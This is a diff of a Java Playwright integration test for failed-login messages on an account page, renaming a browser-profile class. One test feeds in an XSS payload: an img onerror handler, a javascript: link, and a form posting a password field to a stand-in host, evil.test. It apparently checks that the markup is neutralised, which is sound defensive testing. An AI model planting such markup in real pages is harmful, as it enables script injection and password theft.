@@ -7,7 +7,7 @@ import com.fasterxml.jackson.databind.node.ArrayNode;
 import com.fasterxml.jackson.databind.node.ObjectNode;
 import com.microsoft.playwright.Page;
 import dev.loginhelp.tests.browser.Browser;
-import dev.loginhelp.tests.browser.Look;
+import dev.loginhelp.tests.browser.BrowserProfile;
 import dev.loginhelp.tests.browser.Screenshots;
 import dev.loginhelp.tests.browser.Steps;
 import dev.loginhelp.tests.realm.TestRealm;
@@ -55,7 +55,7 @@ class FailedLoginIT {
 
     @Test
     void messageIsInThePagesLanguage() {
-        var page = browser.openElsewhere(realm.url("/account/"), Look.DEFAULT.in("ja"));
+        var page = browser.openElsewhere(realm.url("/account/"), BrowserProfile.DEFAULT.in("ja"));
         logIn(page, "nobody", "wrong");
         assertThat(page.locator(".login-help-administrator")).containsText("内線 4711");
         assertThat(page.locator("#login-help-failed-lock")).containsText("ロックされることがあります");
@@ -69,7 +69,7 @@ class FailedLoginIT {
                 <img src=x onerror="document.title='pwned'"><a href="javascript:document.title='pwned'">click</a>\
                 <form action="https://evil.test"><input name=password></form>""");
         try {
-            var page = browser.context(Look.DEFAULT).newPage();
+            var page = browser.context(BrowserProfile.DEFAULT).newPage();
             List<String> errors = new ArrayList<>();
             page.onPageError(errors::add);
             page.navigate(realm.url("/account/"));
@@ -110,7 +110,7 @@ class FailedLoginIT {
 
     /** All that the page says. */
     private String refusal(TestRealm where, String username, String password) {
-        var page = browser.openElsewhere(where.url("/account/"), Look.DEFAULT);
+        var page = browser.openElsewhere(where.url("/account/"), BrowserProfile.DEFAULT);
         logIn(page, username, password);
         assertThat(page.locator("#login-help-failed-lock")).isVisible();
         return page.locator("body").innerText();
